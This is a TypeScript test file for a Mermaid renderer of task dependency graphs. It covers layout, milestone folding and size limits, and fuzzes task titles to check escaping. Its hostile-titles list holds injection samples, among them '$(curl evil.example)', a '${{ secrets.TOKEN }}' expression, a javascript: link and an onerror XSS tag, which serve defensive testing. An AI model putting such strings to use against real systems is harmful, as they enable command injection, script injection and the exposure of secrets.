import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { taskStatuses, type TaskStatus } from "../../src/model/task.ts";
import { renderGraph, renderGraphSource } from "../../src/views/graph-mermaid.ts";
import type { GraphTask } from "../../src/views/graph-task.ts";

function task(number: number, more: Partial<GraphTask> = {}): GraphTask {
  return { reference: `#${number}`, title: `Task ${number}`, status: "blocked", group: null, blockedBy: [], ...more };
}

const waitsFor = (...numbers: readonly number[]): GraphTask["blockedBy"] =>
  numbers.map((number) => ({ reference: `#${number}`, kind: "hard" as const }));

/** A chain of `amount` tasks in each milestone; each milestone waits for the end of the one before it. */
function chains(names: readonly (string | null)[], amount: number): readonly GraphTask[] {
  return names.flatMap((group, chain) =>
    Array.from({ length: amount }, (_, place) => {
      const number = chain * amount + place + 1;
      const status: TaskStatus = place === 0 ? "completed" : place === 1 ? "in_progress" : "blocked";
      return task(number, { group, status, blockedBy: number === 1 ? [] : waitsFor(number - 1) });
    }),
  );
}

/** Every line that the diagram may hold; whatever a title does, nothing else comes of it. */
const line =
  /^(?:graph (?:LR|TB)| {2}classDef [a-z]+ [a-z0-9#:,]+| {2}n\d+\["[^"`<>%:;&]*(?:#\d+;[^"`<>%:;&]*)*"\]:::[a-z]+| {2}subgraph g\d+\["[^"`<>%:&]*"\]| {2}end| {2}n\d+ (?:-->|-\.->)(?:\|\d+\|)? n\d+)$/u;

describe("a small graph", () => {
  test("is drawn whole: boxes with their state in words, arrows from blocker to blocked, soft ones dashed", () => {
    const tasks = [
      task(1, { status: "completed" }),
      task(2, { status: "in_progress", blockedBy: waitsFor(1) }),
      task(3, { blockedBy: [{ reference: "#2", kind: "soft" }, ...waitsFor(1), ...waitsFor(99)] }),
    ];
    expect(renderGraphSource(tasks)).toEqual({
      source: [
        "graph LR",
        "  classDef done fill:#1a7f37,stroke:#116329,color:#ffffff",
        "  classDef running fill:#0969da,stroke:#0550ae,color:#ffffff",
        "  classDef waiting fill:#eaeef2,stroke:#8c959f,color:#24292f",
        '  n0["#35;1 Task 1 · completed"]:::done',
        '  n1["#35;2 Task 2 · in progress"]:::running',
        '  n2["#35;3 Task 3 · blocked"]:::waiting',
        "  n0 --> n1",
        "  n1 -.-> n2",
        "  n0 --> n2",
      ].join("\n"),
      note: "",
    });
  });
  test("of nothing is nothing", () => {
    expect(renderGraph([])).toBe("");
  });
  test("frames milestones when there are several", () => {
    const { source } = renderGraphSource(chains(["One", null], 2));
    expect(source).toContain('  subgraph g0["One"]\n  n0["#35;1 Task 1 · completed"]:::done\n');
    expect(source.match(/^ {2}end$/gm)).toHaveLength(1);
  });
  test("shows a task that waits for itself, and says so", () => {
    const { source } = renderGraphSource([task(1, { blockedBy: waitsFor(1), isInCycle: true })]);
    expect(source).toContain('n0["#35;1 Task 1 · waits in a circle"]:::failed\n  n0 --> n0');
  });
});

describe("a graph that is larger than its limit", () => {
  test("folds the largest milestones first, joins their arrows, and keeps the small ones open", () => {
    const tasks = [...chains(["Large"], 20), task(100, { group: "Small", blockedBy: waitsFor(3, 4) })];
    const { source, note } = renderGraphSource(tasks, { maxNodes: 10 });
    expect(source.split("\n").slice(3)).toEqual([
      '  subgraph g0["Small"]',
      '  n0["#35;100 Task 100 · blocked"]:::waiting',
      "  end",
      '  n1["Large · 1 of 20 tasks ended, 1 under way"]:::folded',
      "  n1 -->|2| n0",
    ]);
    expect(note).toBe("Folded into their milestones: 20 tasks.");
  });
  test("without milestones shows what moves, and leaves out what has ended or waits longest", () => {
    const { source, note } = renderGraphSource(chains([null], 30), { maxNodes: 5 });
    expect(source.match(/\["#35;(\d+)/g)).toEqual(['["#35;2', '["#35;3', '["#35;4', '["#35;5', '["#35;6']);
    expect(note).toBe("Left out, what has ended first: 25 tasks.");
  });
  test("with more milestones than boxes leaves some out, and says how many tasks that are", () => {
    const names = Array.from({ length: 30 }, (_, place) => `M${place}`);
    const { source, note } = renderGraphSource(chains(names, 3), { maxNodes: 10 });
    expect(source.match(/:::folded/g)).toHaveLength(10);
    expect(note).toBe("Folded into their milestones: 30 tasks. Left out, what has ended first: 60 tasks.");
  });
  test("stays under the limits of Mermaid at any size, and says what is not drawn", () => {
    const everything = Array.from({ length: 100 }, (_, place) =>
      task(place + 1, {
        title: "$(x)`".repeat(60),
        blockedBy: waitsFor(...Array.from({ length: place }, (_, n) => n + 1)),
      }),
    );
    const { source, note } = renderGraphSource(everything, { maxNodes: 5_000 });
    expect(source.length).toBeLessThanOrEqual(40_000);
    expect(source.match(/-->/g)).toHaveLength(400);
    expect(note).toBe("Not drawn: 4550 arrows.");
  });
});

describe("hostile titles", () => {
  const attack = fc.constantFrom(
    '"]',
    "```",
    "`",
    "$(curl evil.example)",
    "${{ secrets.TOKEN }}",
    "%%{init: {'securityLevel': 'loose'}}%%",
    '\nclick n0 href "javascript:alert(1)"',
    "<img src=x onerror=alert(1)>",
    "<!-- orchestrate:cockpit -->",
    "end",
    "style n0 fill:#f00;",
    "#quot;",
    "| a |",
    "\u0000\u001B[31m\u202E",
    "@octocat",
    "😀",
  );
  const text = fc
    .array(fc.oneof(attack, fc.string({ unit: "binary", maxLength: 8 })), { minLength: 1, maxLength: 6 })
    .map((parts) => parts.join(""));

  test("open no line, end no label and no fence, whatever they hold", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({ title: text, reference: text, group: fc.option(text), status: fc.constantFrom(...taskStatuses) }),
          {
            minLength: 1,
            maxLength: 12,
          },
        ),
        fc.integer({ min: 1, max: 12 }),
        (drafts, maxNodes) => {
          const tasks = drafts.map((draft) => ({
            ...draft,
            blockedBy: drafts.map(({ reference }) => ({ reference, kind: "soft" as const })),
          }));
          const { source } = renderGraphSource(tasks, { maxNodes });
          expect(source.split("\n").filter((each) => !line.test(each))).toEqual([]);
          expect(renderGraph(tasks, { maxNodes }).match(/```/g)).toHaveLength(2);
        },
      ),
    );
  });
  test("are shown as they are, by Mermaid's own character codes", () => {
    expect(renderGraphSource([task(1, { title: 'say "`${{ x }}`" | <b>' })]).source).toContain(
      '["#35;1 say #34;#96;#36;#123;#123; x #125;#125;#96;#34; #124; #60;b#62; · blocked"]',
    );
  });
});
